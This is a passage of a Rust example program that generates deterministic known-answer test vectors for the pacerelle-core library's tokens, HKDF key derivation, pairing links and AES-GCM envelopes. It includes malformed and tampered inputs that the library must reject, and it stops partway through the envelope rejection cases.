//! Generates the known-answer vectors in `pacerelle-core/tests/vectors/` from fixed inputs.
//!
//! ```text
//! cargo run -p pacerelle-core --example make_vectors -- envelope   # prints envelope.json
//! cargo run -p pacerelle-core --example make_vectors -- --write    # rewrites every file
//! ```
//!
//! The output depends only on the fixed inputs below: running it twice prints the same bytes. The
//! integration test `tests/vectors.rs` checks the committed files against the library in both directions;
//! `docs/crypto.md` explains every field.

use pacerelle_core::b64;
use pacerelle_core::checkpoint::{self, CheckpointPayload};
use pacerelle_core::envelope::{self, Aad, Direction, kind};
use pacerelle_core::grant::{
    self, CommandMatch, GivenGrant, Grant, GrantOffer, GrantRefusal, GrantScope, SignedGrantOf,
};
use pacerelle_core::keys::{self, ContentKey};
use pacerelle_core::message::{self, ReplyPayload, TaskPayload};
use pacerelle_core::pairing::{OfferPayload, PairingSecret, Role};
use pacerelle_core::question::{
    self, Answer, AnswerPayload, KIND_ANSWER, KIND_ANSWER_COPY, KIND_NOTIFICATION, KIND_QUESTION, Level,
    NotificationPayload, OwnQuestion, QuestionKind, QuestionPayload, QuestionState, RelayReport,
    question_digest,
};
use pacerelle_core::roster::{self, DeviceSigning, KIND_ROSTER, Roster, RosterDevice};
use pacerelle_core::signing::{
    self, AnswerLogExport, ExportDevice, ExportGrant, ExportGrantUse, ExportRecord, PublicKey, SignedAnswer,
    SigningKey, SigningKeyError, SigningKeyPayload,
};
use pacerelle_core::{AgentToken, Cursor, Timestamp};
use serde::Serialize;

const AGENT_ID: &str = "ag_vector";
const DEVICE_ID: &str = "dv_vector";
const AUTH: [u8; 32] = [0x11; 32];
const MASTER: [u8; 32] = [0x22; 32];
const PAIRING_SECRET: [u8; 32] = [0x33; 32];
const RELAY: &str = "https://relay.example";
/// The answer key of the question with an answer key (`qst_digest`).
const ANSWER_KEY: [u8; 32] = [0x66; 32];
/// The id of the question whose answer names its digest and has a copy.
const DIGEST_QUESTION_ID: &str = "qst_digest";

/// 0x00, 0x01, … 0x1f (or from another start): inputs that catch byte-order mistakes.
fn counting<const N: usize>(start: u8) -> [u8; N] {
    let mut out = [0u8; N];
    for (i, b) in out.iter_mut().enumerate() {
        *b = start.wrapping_add(i as u8);
    }
    out
}

fn direction_from(text: &str) -> Direction {
    match text {
        "d2a" => Direction::DeviceToAgent,
        "a2d" => Direction::AgentToDevice,
        "self" => Direction::AgentToSelf,
        "offer" => Direction::Offer,
        other => panic!("unknown direction {other}"),
    }
}

#[derive(Serialize)]
struct File<T> {
    description: &'static str,
    cases: Vec<T>,
}

/// `text` in the standard base64 alphabet (`+` and `/` in place of `-` and `_`), which must be refused.
fn standard_alphabet(text: &str) -> String {
    let out = text.replace('-', "+").replace('_', "/");
    assert_ne!(out, text, "the input must contain '-' or '_'");
    out
}

/// `text` with its last character's unused low bits set: it decodes to the same bytes in a lenient
/// decoder, and must be refused by a strict one.
fn non_canonical(text: &str) -> String {
    let bytes = b64::decode(text).expect("own text decodes");
    assert_ne!(bytes.len() % 3, 0, "the encoding must have unused bits");
    let alphabet = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
    let last = text.as_bytes()[text.len() - 1];
    let index = alphabet
        .iter()
        .position(|&c| c == last)
        .expect("base64url character");
    let mut out = text[..text.len() - 1].to_string();
    out.push(char::from(alphabet[index | 1]));
    assert_ne!(out, text);
    out
}

// ---------------------------------------------------------------------------------------------- token

#[derive(Serialize)]
#[serde(tag = "type", rename_all = "camelCase")]
enum TokenCase {
    #[serde(rename_all = "camelCase")]
    AgentToken {
        name: &'static str,
        auth: String,
        master: String,
        agent_id: &'static str,
        checksum: String,
        token: String,
        bearer: String,
        auth_hash: String,
    },
    #[serde(rename_all = "camelCase")]
    DeviceBearer {
        name: &'static str,
        device_id: &'static str,
        secret: String,
        bearer: String,
        secret_hash: String,
    },
    #[serde(rename_all = "camelCase")]
    InvalidToken { name: &'static str, token: String },
    #[serde(rename_all = "camelCase")]
    InvalidBearer { name: &'static str, bearer: String },
}

fn agent_token_case(
    name: &'static str,
    auth: [u8; 32],
    master: [u8; 32],
    agent_id: &'static str,
) -> TokenCase {
    let token = AgentToken::from_secrets(auth, master);
    let mut check_input = b"pacerelle/v1/token".to_vec();
    check_input.extend_from_slice(&auth);
    check_input.extend_from_slice(&master);
    TokenCase::AgentToken {
        name,
        auth: b64::encode(&auth),
        master: b64::encode(&master),
        agent_id,
        checksum: b64::encode(&keys::sha256(&check_input)[..4]),
        token: token.expose(),
        bearer: token.bearer(agent_id).expose().to_string(),
        auth_hash: b64::encode(&token.auth_hash()),
    }
}

fn token_file() -> File<TokenCase> {
    let good = AgentToken::from_secrets(AUTH, MASTER).expose();
    // The same token with the checksum's last byte changed (re-encoded, so still valid base64url).
    let mut bytes = b64::decode(&good["pcr1_".len()..]).expect("own token decodes");
    bytes[67] ^= 0x01;
    let bad_checksum = format!("pcr1_{}", b64::encode(&bytes));
    // A changed master secret with the old checksum.
    let mut bytes = b64::decode(&good["pcr1_".len()..]).expect("own token decodes");
    bytes[40] ^= 0x80;
    let bad_master = format!("pcr1_{}", b64::encode(&bytes));
    let device_secret: [u8; 32] = [0x55; 32];
    let counting_token = AgentToken::from_secrets(counting(0x00), counting(0x20)).expose();
    File {
        description: "Agent tokens and bearer credentials. token = \"pcr1_\" + base64url(auth 32 bytes || master 32 \
                      bytes || checksum 4 bytes), checksum = SHA-256(\"pacerelle/v1/token\" || auth || master)[0..4]. \
                      bearer = agentId + \".\" + base64url(auth); authHash = SHA-256(auth), what the relay stores. \
                      Device credentials have the same form: deviceId + \".\" + base64url(32-byte secret), the relay \
                      stores secretHash = SHA-256(secret). invalidToken cases must be refused by a token parser; \
                      invalidBearer cases must be refused by the relay before any lookup. All binary values are \
                      base64url without padding.",
        cases: vec![
            agent_token_case("repeated bytes", AUTH, MASTER, AGENT_ID),
            agent_token_case("counting bytes", counting(0x00), counting(0x20), "ag_2:test.x-y"),
            TokenCase::DeviceBearer {
                name: "device credential",
                device_id: DEVICE_ID,
                secret: b64::encode(&device_secret),
                bearer: format!("{DEVICE_ID}.{}", b64::encode(&device_secret)),
                secret_hash: b64::encode(&keys::sha256(&device_secret)),
            },
            TokenCase::InvalidToken {
                name: "checksum altered",
                token: bad_checksum,
            },
            TokenCase::InvalidToken {
                name: "master altered, checksum kept",
                token: bad_master,
            },
            TokenCase::InvalidToken {
                name: "wrong prefix",
                token: good.replacen("pcr1_", "pcr2_", 1),
            },
            TokenCase::InvalidToken {
                name: "truncated",
                token: good[..good.len() - 4].to_string(),
            },
            TokenCase::InvalidToken {
                name: "padded base64",
                token: format!("{good}="),
            },
            TokenCase::InvalidToken {
                name: "standard base64 alphabet",
                // The prefix is right and the body is a valid token's body written with `+` and `/`: the
                // alphabet is the only fault.
                token: format!("pcr1_{}", standard_alphabet(&counting_token["pcr1_".len()..])),
            },
            TokenCase::InvalidToken {
                name: "non-canonical base64url (unused low bits set)",
                token: format!("pcr1_{}", non_canonical(&good["pcr1_".len()..])),
            },
            TokenCase::InvalidBearer {
                name: "no separator",
                bearer: "ag_vector".into(),
            },
            TokenCase::InvalidBearer {
                name: "secret of 3 bytes",
                bearer: "ag_vector.AAAA".into(),
            },
            TokenCase::InvalidBearer {
                name: "space in principal id",
                bearer: format!("ag vector.{}", b64::encode(&AUTH)),
            },
        ],
    }
}

// ------------------------------------------------------------------------------------------------ kdf

#[derive(Serialize)]
#[serde(tag = "type", rename_all = "camelCase")]
enum KdfCase {
    #[serde(rename_all = "camelCase")]
    Hkdf {
        name: &'static str,
        ikm: String,
        salt: String,
        info: String,
        okm: String,
    },
    #[serde(rename_all = "camelCase")]
    ContentKeys {
        name: &'static str,
        master: String,
        agent_id: &'static str,
        device_id: &'static str,
        device_info: String,
        device_key: String,
        self_key: String,
    },
}

fn content_keys(
    name: &'static str,
    master: [u8; 32],
    agent_id: &'static str,
    device_id: &'static str,
) -> KdfCase {
    KdfCase::ContentKeys {
        name,
        master: b64::encode(&master),
        agent_id,
        device_id,
        device_info: format!("{}{device_id}", keys::DEVICE_INFO),
        device_key: b64::encode(&keys::device_key(&master, agent_id, device_id).to_bytes()),
        self_key: b64::encode(&keys::self_key(&master, agent_id).to_bytes()),
    }
}

fn kdf_file() -> File<KdfCase> {
    let rfc_ikm = [0x0bu8; 22];
    let rfc_salt: [u8; 13] = counting(0x00);
    let rfc_info: [u8; 10] = counting(0xf0);
    File {
        description: "HKDF-SHA256 (RFC 5869), always 32 bytes of output. hkdf cases are raw HKDF (ikm, salt, info \
                      as base64url bytes; the first is RFC 5869 test case 1, first 32 bytes of its OKM). \
                      contentKeys cases: deviceKey = HKDF(ikm = master, salt = UTF-8(agentId), info = \
                      UTF-8(\"pacerelle/v1/device/\" + deviceId)) (deviceInfo shows that text); selfKey = \
                      HKDF(ikm = master, salt = UTF-8(agentId), info = UTF-8(\"pacerelle/v1/self\")).",
        cases: vec![
            KdfCase::Hkdf {
                name: "RFC 5869 test case 1 (first 32 bytes)",
                ikm: b64::encode(&rfc_ikm),
                salt: b64::encode(&rfc_salt),
                info: b64::encode(&rfc_info),
                okm: b64::encode(&keys::hkdf32(&rfc_ikm, &rfc_salt, &rfc_info)),
            },
            content_keys("vector agent and device", MASTER, AGENT_ID, DEVICE_ID),
            content_keys("another device of the same agent", MASTER, AGENT_ID, "dv_other"),
            content_keys(
                "same device id under another agent",
                MASTER,
                "ag_other",
                DEVICE_ID,
            ),
            content_keys(
                "counting master, punctuated ids",
                counting(0x20),
                "ag_2:test.x-y",
                "dv_phone-1.b:2",
            ),
        ],
    }
}

// -------------------------------------------------------------------------------------------- pairing

#[derive(Serialize)]
#[serde(rename_all = "camelCase")]
struct AadFields {
    agent_id: String,
    device_id: String,
    direction: String,
    kind: String,
    object_id: String,
}

impl AadFields {
    fn new(agent_id: &str, device_id: &str, direction: &str, kind: &str, object_id: &str) -> Self {
        AadFields {
            agent_id: agent_id.into(),
            device_id: device_id.into(),
            direction: direction.into(),
            kind: kind.into(),
            object_id: object_id.into(),
        }
    }

    fn aad(&self) -> Aad<'_> {
        Aad {
            agent_id: &self.agent_id,
            device_id: &self.device_id,
            direction: direction_from(&self.direction),
            kind: &self.kind,
            object_id: &self.object_id,
        }
    }
}

#[derive(Serialize)]
#[serde(rename_all = "camelCase")]
struct SealedOffer {
    /// The offer payload exactly as serialised (the plaintext).
    offer_json: String,
    aad_fields: AadFields,
    aad: String,
    nonce: String,
    sealed_offer: String,
}

#[derive(Serialize)]
#[serde(rename_all = "camelCase")]
struct WrongContext {
    agent_id: &'static str,
    device_id: &'static str,
}

#[derive(Serialize)]
#[serde(tag = "type", rename_all = "camelCase")]
enum PairingCase {
    #[serde(rename_all = "camelCase")]
    Pairing {
        name: &'static str,
        secret: String,
        relay_url: &'static str,
        pairing_id: String,
        pairing_key: String,
        claim_secret: String,
        claim_hash: String,
        link: String,
        offer: Box<SealedOffer>,
        /// `(agentId, deviceId)` a lying relay might return beside the offer: opening must fail.
        must_not_open_with: Vec<WrongContext>,
    },
    #[serde(rename_all = "camelCase")]
    InvalidLink { name: &'static str, link: String },
}

#[allow(clippy::too_many_arguments)]
fn pairing_case(
    name: &'static str,
    secret: [u8; 32],
    relay_url: &'static str,
    agent_name: &str,
    master: [u8; 32],
    device_id: &'static str,
    role: Role,
    expires_at: &str,
    nonce: [u8; 12],
) -> PairingCase {
    let s = PairingSecret(secret);
    let offer = OfferPayload {
        v: 1,
        agent_id: AGENT_ID.into(),
        agent_name: agent_name.into(),
        device_id: device_id.into(),
        device_key: b64::encode(&keys::device_key(&master, AGENT_ID, device_id).to_bytes()),
        role,
        expires_at: Timestamp::parse(expires_at).expect("fixed time parses"),
        branding: None,
        user: None,
    };
    let offer_json = serde_json::to_string(&offer).expect("offer serialises");
    let pairing_id = s.pairing_id();
    let fields = AadFields::new(AGENT_ID, device_id, "offer", kind::OFFER, &pairing_id);
    let sealed_offer =
        envelope::seal_with_nonce(&s.pairing_key(), &fields.aad(), nonce, offer_json.as_bytes());
    let aad = b64::encode(&fields.aad().to_bytes().expect("short fields"));
    PairingCase::Pairing {
        name,
        secret: b64::encode(&secret),
        relay_url,
        pairing_id,
        pairing_key: b64::encode(&s.pairing_key().to_bytes()),
        claim_secret: b64::encode(&s.claim_secret()),
        claim_hash: b64::encode(&s.claim_hash()),
        link: s.link(relay_url),
        offer: Box::new(SealedOffer {
            offer_json,
            aad_fields: fields,
            aad,
            nonce: b64::encode(&nonce),
            sealed_offer,
        }),
        must_not_open_with: vec![
            WrongContext {
                agent_id: AGENT_ID,
                device_id: "dv_other",
            },
            WrongContext {
                agent_id: "ag_other",
                device_id,
            },
        ],
    }
}

fn invalid_link(name: &'static str, link: String) -> PairingCase {
    PairingCase::InvalidLink { name, link }
}

fn pairing_file() -> File<PairingCase> {
    let s32 = b64::encode(&PAIRING_SECRET);
    let s31 = b64::encode(&PAIRING_SECRET[..31]);
    File {
        description: "Pairing. From the 32-byte secret s, with salt = UTF-8(\"pacerelle/v1/pairing\"): pairingId = \
                      base64url(HKDF(s, salt, \"id\")[0..16]); pairingKey = HKDF(s, salt, \"key\"); claimSecret = \
                      HKDF(s, salt, \"claim\"); claimHash = SHA-256(claimSecret); link = relayUrl without trailing \
                      '/' + \"/pair#v1.\" + base64url(s). offer.offerJson is the OfferPayload exactly as the Rust \
                      implementation serialises it (UTF-8); it is sealed with pairingKey, the given nonce and the \
                      additional data (agentId, deviceId, \"offer\", \"offer\", pairingId). Opening the sealed offer \
                      with any (agentId, deviceId) of mustNotOpenWith must fail. invalidLink cases must be refused.",
        cases: vec![
            pairing_case(
                "owner device",
                PAIRING_SECRET,
                RELAY,
                "Ana’s laptop — Claude Code",
                MASTER,
                DEVICE_ID,
                Role::Owner,
                "2026-11-30T00:10:00.250Z",
                counting(0x30),
            ),
            pairing_case(
                "user device, relay under a path with a trailing slash",
                counting(0x40),
                "https://relay.example:8443/pacerelle/",
                "support bot",
                MASTER,
                "dv_user-1",
                Role::User,
                "2027-01-02T03:04:05.006Z",
                counting(0x60),
            ),
            invalid_link("no fragment", "https://relay.example/pair".into()),
            invalid_link(
                "unknown link version",
                format!("https://relay.example/pair#v2.{s32}"),
            ),
            invalid_link("not http(s)", format!("ftp://relay.example/pair#v1.{s32}")),
            invalid_link("path is not /pair", format!("https://relay.example/#v1.{s32}")),
            invalid_link(
                "secret of 31 bytes",
                format!("https://relay.example/pair#v1.{s31}"),
            ),
            invalid_link("padded secret", format!("https://relay.example/pair#v1.{s32}=")),
            invalid_link(
                "non-canonical base64url (unused low bits set)",
                format!("https://relay.example/pair#v1.{}", non_canonical(&s32)),
            ),
        ],
    }
}

// ------------------------------------------------------------------------------------------- envelope

#[derive(Serialize)]
#[serde(tag = "type", rename_all = "camelCase")]
enum EnvelopeCase {
    #[serde(rename_all = "camelCase")]
    Seal {
        name: &'static str,
        key: String,
        aad_fields: AadFields,
        aad: String,
        nonce: String,
        plaintext: String,
        plaintext_bytes: String,
        envelope: String,
    },
    #[serde(rename_all = "camelCase")]
    Reject {
        name: &'static str,
        key: String,
        aad_fields: AadFields,
        aad: String,
        envelope: String,
        /// `malformed` (refused before decryption) or `open` (authentication failed).
        error: &'static str,
    },
}

fn seal_case(
    name: &'static str,
    key: &ContentKey,
    fields: AadFields,
    nonce: [u8; 12],
    plaintext: &str,
) -> EnvelopeCase {
    let envelope = envelope::seal_with_nonce(key, &fields.aad(), nonce, plaintext.as_bytes());
    EnvelopeCase::Seal {
        name,
        key: b64::encode(&key.to_bytes()),
        aad: b64::encode(&fields.aad().to_bytes().expect("short fields")),
        aad_fields: fields,
        nonce: b64::encode(&nonce),
        plaintext: plaintext.into(),
        plaintext_bytes: b64::encode(plaintext.as_bytes()),
        envelope,
    }
}

fn reject_case(
    name: &'static str,
    key: &ContentKey,
    fields: AadFields,
    envelope: String,
    error: &'static str,
) -> EnvelopeCase {
    EnvelopeCase::Reject {
        name,
        key: b64::encode(&key.to_bytes()),
        aad: b64::encode(&fields.aad().to_bytes().expect("short fields")),
        aad_fields: fields,
        envelope,
        error,
    }
}

/// The envelope text of a seal case.
fn envelope_of(case: &EnvelopeCase) -> String {
    match case {
        EnvelopeCase::Seal { envelope, .. } => envelope.clone(),
        EnvelopeCase::Reject { .. } => panic!("not a seal case"),
    }
}

/// `envelope` with bit `bit` (0 = least significant) of byte `index` flipped.
fn flip(envelope: &str, index: usize, bit: u8) -> String {
    let mut bytes = b64::decode(envelope).expect("own envelope decodes");
    bytes[index] ^= 1 << bit;
    b64::encode(&bytes)
}

/// The question asked under [`DIGEST_QUESTION_ID`]: two recipients and an answer key. Its serialised bytes
/// are what the agent seals for itself and for each recipient, and what [`question_digest`] hashes.
fn digest_question() -> QuestionPayload {
    QuestionPayload {
        grants: None,
        question: "Run the test suite on main?".into(),
        kind: QuestionKind::YesNo,
        options: vec![],
        multiple: false,
        details: Some("≈ 4 min — résultats dans #ci".into()),
        expires_at: Timestamp::parse("2026-11-30T01:00:00.000Z").expect("fixed time parses"),
        recipients: vec![DEVICE_ID.into(), "dv_other".into()],
        answer_key: Some(b64::encode(&ANSWER_KEY)),
        channels: Vec::new(),
        user: None,
        approvals: 1,
    }
}

fn json<T: Serialize>(value: &T) -> String {
    serde_json::to_string(value).expect("payload serialises")
}

/// The yes that `dv_vector` gives to [`digest_question`], naming its digest.
fn digest_answer() -> AnswerPayload {
    AnswerPayload {
        grant: None,
        question_id: DIGEST_QUESTION_ID.into(),
        answer: Answer::Yes,
        answered_at: Timestamp::parse("2026-11-30T00:41:02.003Z").expect("fixed time parses"),
        question_digest: Some(question_digest(json(&digest_question()).as_bytes())),
        signature: None,
    }
}

fn envelope_file() -> File<EnvelopeCase> {
    let device_key = keys::device_key(&MASTER, AGENT_ID, DEVICE_ID);
    let self_key = keys::self_key(&MASTER, AGENT_ID);
    let task_id = "msg_vector";
    let task_fields = || AadFields::new(AGENT_ID, DEVICE_ID, "d2a", kind::MESSAGE, task_id);
    let task = serde_json::to_string(&TaskPayload {
        text: "Renomme le brouillon « Été 2026 » — merci ✓ 🚀".into(),
        session: None,
    })
    .expect("task serialises");
    let reply = serde_json::to_string(&ReplyPayload {
        text: "Done: 3 files renamed.\nNext: send the draft?".into(),
        source_message_id: task_id.into(),
    })
    .expect("reply serialises");
    let ckp = serde_json::to_string(&CheckpointPayload {
        summary: "Renamed 3 files in drafts/".into(),
        next_action: "Wait for the person to confirm sending".into(),
        message_ids: vec![task_id.into(), "msg_earlier".into()],
    })
    .expect("checkpoint serialises");
    let question_id = "qst_vector";
    let question = serde_json::to_string(&QuestionPayload {
        grants: None,
        question: "Deploy v2.3 to production?".into(),
        kind: QuestionKind::YesNo,
        options: vec![],
        multiple: false,
        details: Some("Tests passés ✓ — 3 migrations".into()),
        expires_at: Timestamp::parse("2026-11-30T00:20:00.000Z").expect("fixed time parses"),
        recipients: vec![DEVICE_ID.into()],
        answer_key: None,
        channels: Vec::new(),
        user: None,
        approvals: 1,
    })
    .expect("question serialises");
    let answer = serde_json::to_string(&AnswerPayload {
        grant: None,
        question_id: question_id.into(),
        answer: Answer::Yes,
        answered_at: Timestamp::parse("2026-11-30T00:12:34.567Z").expect("fixed time parses"),
        question_digest: None,
        signature: None,
    })
    .expect("answer serialises");
    let choice = serde_json::to_string(&QuestionPayload {
        grants: None,
        question: "Quel jour pour la réunion ?".into(),
        kind: QuestionKind::Choice,
        options: vec!["Lundi".into(), "Mardi".into(), "Jeudi".into()],
        multiple: false,
        details: None,
        expires_at: Timestamp::parse("2026-12-01T09:00:00.000Z").expect("fixed time parses"),
        recipients: vec![DEVICE_ID.into()],
        answer_key: None,
        channels: Vec::new(),
        user: None,
        approvals: 1,
    })
    .expect("question serialises");
    let choice_answer = serde_json::to_string(&AnswerPayload {
        grant: None,
        question_id: "qst_choice".into(),
        answer: Answer::Options(vec!["Mardi".into()]),
        answered_at: Timestamp::parse("2026-11-30T08:00:00.001Z").expect("fixed time parses"),
        question_digest: None,
        signature: None,
    })
    .expect("answer serialises");
    let question_fields = || AadFields::new(AGENT_ID, DEVICE_ID, "a2d", KIND_QUESTION, question_id);
    let answer_fields = || AadFields::new(AGENT_ID, DEVICE_ID, "d2a", KIND_ANSWER, question_id);

    // The library's own AAD helpers must agree with the fields written here.
    assert_eq!(
        question::question_aad(AGENT_ID, DEVICE_ID, question_id),
        question_fields().aad()
    );
    assert_eq!(
        question::question_aad(AGENT_ID, "", question_id),
        AadFields::new(AGENT_ID, "", "self", KIND_QUESTION, question_id).aad()
    );
    assert_eq!(
        question::answer_aad(AGENT_ID, DEVICE_ID, question_id),
        answer_fields().aad()
    );
    assert_eq!(
        message::task_aad(AGENT_ID, DEVICE_ID, task_id),
        task_fields().aad()
    );
    assert_eq!(
        message::reply_aad(AGENT_ID, DEVICE_ID, "rep_vector"),
        AadFields::new(AGENT_ID, DEVICE_ID, "a2d", kind::REPLY, "rep_vector").aad()
    );
    assert_eq!(
        checkpoint::checkpoint_aad(AGENT_ID, "ckp_vector"),
        AadFields::new(AGENT_ID, "", "self", kind::CHECKPOINT, "ckp_vector").aad()
    );

    let question_case = seal_case(
        "question, the device's copy (yes/no)",
        &device_key,
        question_fields(),
        counting(0x50),
        &question,
    );
    let question_env = envelope_of(&question_case);
    let answer_case = seal_case(
        "answer: yes",
        &device_key,
        answer_fields(),
        counting(0xd0),
        &answer,
    );
    let answer_env = envelope_of(&answer_case);
    let task_case = seal_case(
        "task (non-ASCII JSON)",
        &device_key,
        task_fields(),
        counting(0x00),
        &task,
    );
    let task_env = envelope_of(&task_case);
    let task_len = b64::decode(&task_env).expect("decodes").len();
    let ckp_case = seal_case(
        "checkpoint (self key, empty deviceId)",
        &self_key,
        AadFields::new(AGENT_ID, "", "self", kind::CHECKPOINT, "ckp_vector"),
        counting(0x20),
        &ckp,
    );
    let ckp_env = envelope_of(&ckp_case);

    let mut wrong_version = b64::decode(&task_env).expect("decodes");
    wrong_version[0] = 0x02;
    let too_short = b64::encode(&b64::decode(&task_env).expect("decodes")[..28]);
    let empty_key = ContentKey::from_bytes([0x44; 32]);
    let empty_fields = || AadFields::new(AGENT_ID, DEVICE_ID, "d2a", kind::MESSAGE, "msg_empty");
    let empty_case = seal_case(
        "empty plaintext (29-byte envelope)",
        &empty_key,
        empty_fields(),
        [0xff; 12],
        "",
    );
    let empty_env = envelope_of(&empty_case);
    let empty_non_canonical = non_canonical(&empty_env);

    // A question with an answer key; the answer that names its digest; the answer's copy for the other
    // recipients, sealed with the answer key.
    let digest_plain = json(&digest_question());
    let digest_answer_plain = json(&digest_answer());
    let answer_key = ContentKey::from_bytes(ANSWER_KEY);
    let copy_fields = || AadFields::new(AGENT_ID, DEVICE_ID, "d2a", KIND_ANSWER_COPY, DIGEST_QUESTION_ID);
    assert_eq!(
        question::answer_copy_aad(AGENT_ID, DEVICE_ID, DIGEST_QUESTION_ID),
        copy_fields().aad()
    );
    assert_eq!(digest_question().answer_key(), Some(answer_key.clone()));
    let copy_case = seal_case(
        "answer copy, sealed with the question's answer key (kind answer_copy)",
        &answer_key,
        copy_fields(),
        counting(0xe0),
        &digest_answer_plain,
    );
    let copy_env = envelope_of(&copy_case);
    let digest_answer_case = seal_case(
        "answer: yes, naming the question's digest",
        &device_key,
        AadFields::new(AGENT_ID, DEVICE_ID, "d2a", KIND_ANSWER, DIGEST_QUESTION_ID),
        counting(0xf0),
        &digest_answer_plain,
    );
    let digest_answer_env = envelope_of(&digest_answer_case);
    let notification = json(&NotificationPayload {
        text: "Déploiement terminé : 3 services à jour.".into(),
        title: Some("v2.3 ✓".into()),
        level: Level::Success,
    });
    // qst_deploy of signature.json, as a device receives and answers it: the question with an answer key,
    // the answer naming its digest with dv_vector's signature (the plaintext and envelope of verdict.json's
    // first case), and that answer's copy.
    let deploy = &answered()[0];
    let deploy_plain = json(&deploy.question);
    let deploy_digest = question_digest(deploy_plain.as_bytes());
    let deploy_signature = SignedAnswer {
        agent_id: AGENT_ID,
        device_id: DEVICE_ID,
        question_id: deploy.question_id,
        question_digest: &deploy_digest,
        answered_at: time(deploy.answered_at),
        answer: &deploy.answer,
    }
    .sign(&signing_key(deploy.seed));
    let deploy_answer_plain = json(&AnswerPayload {
        grant: None,
        question_id: deploy.question_id.into(),
        answer: deploy.answer.clone(),
        answered_at: time(deploy.answered_at),
        question_digest: Some(deploy_digest),
        signature: Some(deploy_signature),
    });
    assert_eq!(deploy.question.answer_key(), Some(answer_key.clone()));
    let [deploy_question, deploy_answer, deploy_copy] = [
        seal_case(
            "signed question qst_deploy, the device's copy (with an answer key)",
            &device_key,
            AadFields::new(AGENT_ID, DEVICE_ID, "a2d", KIND_QUESTION, deploy.question_id),
            counting(0x18),
            &deploy_plain,
        ),
        seal_case(
            "signed answer: yes to qst_deploy, naming its digest, with dv_vector's signature",
            &device_key,
            AadFields::new(AGENT_ID, DEVICE_ID, "d2a", KIND_ANSWER, deploy.question_id),
            [0xe1; 12],
            &deploy_answer_plain,
        ),
        seal_case(
            "signed answer's copy, sealed with qst_deploy's answer key (kind answer_copy)",
            &answer_key,
            AadFields::new(AGENT_ID, DEVICE_ID, "d2a", KIND_ANSWER_COPY, deploy.question_id),
            counting(0x48),
            &deploy_answer_plain,
        ),
    ];
    assert_eq!(
        question::notification_aad(AGENT_ID, DEVICE_ID, "ntf_vector"),
        AadFields::new(AGENT_ID, DEVICE_ID, "a2d", KIND_NOTIFICATION, "ntf_vector").aad()
    );

    File {
        description: "Envelopes. envelope = base64url(0x01 || nonce (12) || AES-256-GCM ciphertext || tag (16)); aad \
                      = \"pacerelle/v1/aad\" || 0x01 || for each of agentId, deviceId, direction, kind, objectId: \
                      u16 big-endian byte length || UTF-8 bytes. seal cases: sealing plaintextBytes (the UTF-8 of \
                      plaintext) with key, nonce and aad gives envelope, and opening envelope gives plaintextBytes. \
                      reject cases: opening must fail; error is \"malformed\" when the envelope is refused before \
                      decryption (not base64url, shorter than 29 bytes, first byte not 0x01) and \"open\" when \
                      authentication fails (altered bytes, other key or other additional data). The question \
                      qst_digest carries an answerKey; the answer to it names questionDigest = \
                      base64url(SHA-256(the question's plaintextBytes)) (question.json), and its copy for the \
                      other recipients is the same plaintext sealed with key = the answerKey's 32 bytes and kind \
                      \"answer_copy\". The question qst_deploy (signature.json) is sealed for dv_vector, with its \
                      answer, which carries questionDigest and signature, and that answer's copy.",
        cases: vec![
            task_case,
            seal_case(
                "reply",
                &device_key,
                AadFields::new(AGENT_ID, DEVICE_ID, "a2d", kind::REPLY, "rep_vector"),
                counting(0x10),
                &reply,
            ),
            ckp_case,
            question_case,
            seal_case(
                "question, the agent's own copy (self key, empty deviceId)",
                &self_key,
                AadFields::new(AGENT_ID, "", "self", KIND_QUESTION, question_id),
                counting(0x70),
                &question,
            ),
            answer_case,
            seal_case(
                "question, the device's copy (choice)",
                &device_key,
                AadFields::new(AGENT_ID, DEVICE_ID, "a2d", KIND_QUESTION, "qst_choice"),
                counting(0x90),
                &choice,
            ),
            seal_case(
                "answer: one option",
                &device_key,
                AadFields::new(AGENT_ID, DEVICE_ID, "d2a", KIND_ANSWER, "qst_choice"),
                counting(0xa0),
                &choice_answer,
            ),
            empty_case,
            seal_case(
                "16-byte plaintext, counting key",
                &ContentKey::from_bytes(counting(0x80)),
                AadFields::new("ag_2:test.x-y", "dv_phone-1.b:2", "a2d", kind::REPLY, "rep_2"),
                counting(0xc0),
                "exactly 16 bytes",
            ),
            seal_case(
                "question with an answer key, the device's copy",
                &device_key,
                AadFields::new(AGENT_ID, DEVICE_ID, "a2d", KIND_QUESTION, DIGEST_QUESTION_ID),
                counting(0x08),
                &digest_plain,
            ),
            seal_case(
                "question with an answer key, the agent's own copy (the same plaintext bytes)",
                &self_key,
                AadFields::new(AGENT_ID, "", "self", KIND_QUESTION, DIGEST_QUESTION_ID),
                counting(0x28),
                &digest_plain,
            ),
            digest_answer_case,
            copy_case,
            seal_case(
                "notification (title and level)",
                &device_key,
                AadFields::new(AGENT_ID, DEVICE_ID, "a2d", KIND_NOTIFICATION, "ntf_vector"),
                counting(0x38),
                &notification,
            ),
            deploy_question,
            deploy_answer,
            deploy_copy,
            reject_case(
                "task with one ciphertext bit flipped",
                &device_key,
                task_fields(),
                flip(&task_env, 20, 0),
                "open",
            ),
            reject_case(
                "task with one tag bit flipped",
                &device_key,
                task_fields(),
                flip(&task_env, task_len - 1, 7),
                "open",
            ),
            reject_case(
                "task with one nonce bit flipped",
                &device_key,
                task_fields(),
                flip(&task_env, 1, 3),
                "open",
            ),
            reject_case(
                "task opened as another message",
                &device_key,
                AadFields::new(AGENT_ID, DEVICE_ID, "d2a", kind::MESSAGE, "msg_other"),
                task_env.clone(),
                "open",
            ),
            reject_case(
                "task opened for another device (same key)",
                &device_key,
                AadFields::new(AGENT_ID, "dv_other", "d2a", kind::MESSAGE, task_id),
                task_env.clone(),
                "open",
            ),
            reject_case(
                "task opened in the other direction",
                &device_key,
                AadFields::new(AGENT_ID, DEVICE_ID, "a2d", kind::MESSAGE, task_id),
                task_env.clone(),
                "open",
            ),
            reject_case(
                "task opened as a reply",
                &device_key,
                AadFields::new(AGENT_ID, DEVICE_ID, "d2a", kind::REPLY, task_id),
                task_env.clone(),
                "open",
            ),
            reject_case(
                "task opened under another agent",
                &device_key,
                AadFields::new("ag_other", DEVICE_ID, "d2a", kind::MESSAGE, task_id),
                task_env.clone(),
                "open",
            ),
            reject_case(
                "task with a field boundary moved (agentId \"ag_vectord\", deviceId \"v_vector\")",
                &device_key,
                AadFields::new("ag_vectord", "v_vector", "d2a", kind::MESSAGE, task_id),
                task_env.clone(),
                "open",
            ),
            reject_case(
                "task opened with the self key",
                &self_key,
                task_fields(),
                task_env.clone(),
                "open",
